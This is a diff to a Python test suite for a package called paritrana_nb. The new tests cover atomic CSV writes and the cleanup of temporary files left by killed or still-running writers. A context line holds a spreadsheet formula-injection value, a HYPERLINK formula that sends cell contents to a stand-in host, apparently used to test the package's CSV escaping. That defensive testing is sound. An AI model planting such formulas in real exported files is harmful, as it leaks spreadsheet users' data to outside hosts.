@@ -6,6 +6,10 @@ from __future__ import annotations
 import ast
 import csv
 import io
+import os
+import signal
+import subprocess
+import sys
 from pathlib import Path
 
 import numpy as np
@@ -15,9 +19,10 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from conftest import small_season_tables, write_season
+from paritrana_nb import outputs
 from paritrana_nb.cli import main
 from paritrana_nb.methodology import Methodology
-from paritrana_nb.outputs import csv_safe, starts_like_formula, table_csv_text
+from paritrana_nb.outputs import csv_safe, starts_like_formula, table_csv_text, write_atomic
 from paritrana_nb.season import Season, load_season
 
 HYPERLINK = '=HYPERLINK("http://x/?d="&A2,"Klik")'
@@ -181,6 +186,55 @@ def test_only_outputs_renames_files_into_place() -> None:
         and node.value.id == "os"
     )
     assert renames == []
+
+
+_KILLED_WHILE_WRITING = """
+import os, signal, sys
+from pathlib import Path
+from paritrana_nb import outputs
+
+def fdopen(*args, **kwargs):
+    os.kill(os.getpid(), signal.SIGKILL)  # killed while the temporary file is written: no cleanup runs
+
+outputs.os.fdopen = fdopen
+outputs.write_atomic(Path(sys.argv[1]), b"new")
+"""
+
+
+@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="needs SIGKILL (POSIX)")
+def test_the_temporary_file_of_a_killed_write_is_deleted_by_the_next_write_to_its_folder(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    target = tmp_path / "skor.csv"
+    target.write_bytes(b"old")
+    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    killed = subprocess.run([sys.executable, "-c", _KILLED_WHILE_WRITING, str(target)], env=env, check=False)
+    assert killed.returncode == -signal.SIGKILL
+    [left] = [p.name for p in tmp_path.iterdir() if p.name != "skor.csv"]
+    assert left.startswith(".skor.csv.") and left.endswith(".tmp")
+    assert target.read_bytes() == b"old"  # the previous result is whole
+    (tmp_path / ".catatan.tmp").write_text("x")  # a hidden file of someone else's: not the workbook's to delete
+    monkeypatch.setattr(outputs, "_SWEPT", set())  # as in the next command's process
+    write_atomic(tmp_path / "gaps.csv", b"other")  # any result written to that folder
+    assert sorted(p.name for p in tmp_path.iterdir()) == [".catatan.tmp", "gaps.csv", "skor.csv"]
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="needs file locks (POSIX)")
+def test_the_temporary_file_of_a_write_at_work_in_another_process_is_kept(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import fcntl
+
+    at_work = tmp_path / f".skor.csv.abcd_123{outputs.TEMPORARY_SUFFIX}"
+    at_work.write_bytes(b"half")
+    with at_work.open("rb") as writer:  # its writer holds the lock while it writes (another open file: another lock)
+        fcntl.flock(writer, fcntl.LOCK_EX)
+        monkeypatch.setattr(outputs, "_SWEPT", set())
+        write_atomic(tmp_path / "skor.csv", b"new")
+        assert at_work.read_bytes() == b"half"
+    monkeypatch.setattr(outputs, "_SWEPT", set())
+    write_atomic(tmp_path / "skor.csv", b"newer")  # its writer is gone (killed): deleted
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["skor.csv"]
 
 
 def _csv_writer_reference(table: pd.DataFrame, boolean_columns: tuple[str, ...] = ()) -> str:
